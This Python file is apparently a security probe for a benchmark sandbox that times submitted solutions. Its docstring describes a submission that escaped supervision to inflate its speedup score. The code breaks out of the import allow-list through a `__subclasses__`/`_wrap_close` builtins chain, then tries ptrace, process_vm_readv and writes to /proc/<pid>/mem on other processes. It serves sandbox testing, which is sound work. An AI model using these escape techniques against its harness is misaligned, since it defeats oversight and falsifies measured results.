"""Get code running outside the supervisor's control (finding 1 of issue 12).

Inside the sandbox every process runs as the same uid, so a submission that
can ptrace another process (the sandbox's pid 1 above all), write its memory
through /proc/<pid>/mem or process_vm_writev, or write to its descriptors can
make it fork a helper the harness never freezes, counts or pins: such a helper
burned the runners' CPU while the reference was timed and doubled a slow
answer's speedup. This probe tries each way in on every other process of the
sandbox and reports every one that opens."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary (see timing_stop_reference.py)."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import ctypes
import os

import numpy as np

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 16, 17, 0x4206, 0x4207
_libc = ctypes.CDLL(None, use_errno=True)


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def _ptrace(pid):
    for request in (PTRACE_SEIZE, PTRACE_ATTACH):
        if _libc.ptrace(ctypes.c_long(request), ctypes.c_long(pid), None, None) == 0:
            _libc.ptrace(ctypes.c_long(PTRACE_DETACH), ctypes.c_long(pid), None, None)
            return f"ptrace request {request:#x} on pid {pid} succeeded"
    return None


def _vm_read(pid):
    mine = ctypes.create_string_buffer(8)
    try:
        with open(f"/proc/{pid}/maps") as maps:
            start = int(maps.readline().split("-")[0], 16)
    except (OSError, ValueError):
        return None
    local, remote = _IoVec(ctypes.addressof(mine), 8), _IoVec(start, 8)
    syscall_number = 310  # process_vm_readv on x86_64
    if _libc.syscall(syscall_number, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        return f"process_vm_readv read pid {pid}'s memory"
    return None


def _open_for_writing(pid):
    found = []
    for path in (f"/proc/{pid}/mem", f"/proc/{pid}/fd/1", f"/proc/{pid}/fd/2"):
        try:
            fd = os.open(path, os.O_WRONLY)
        except OSError:
            continue
        os.close(fd)
        found.append(f"opened {path} for writing")
    return found


def _probe():
    me = os.getpid()
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid = int(name)
        try:
            with open(f"/proc/{pid}/status") as status:
                ppid = next(int(line.split()[1]) for line in status if line.startswith("PPid:"))
        except (OSError, StopIteration, ValueError):
            continue
        if ppid == me:
            continue  # our own children are ours to control
        for finding in (_ptrace(pid), _vm_read(pid), *_open_for_writing(pid)):
            if finding:
                found.append(finding)
    return found


_FINDINGS = _probe()


def transform(x):
    _FINDINGS.extend(_probe())
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
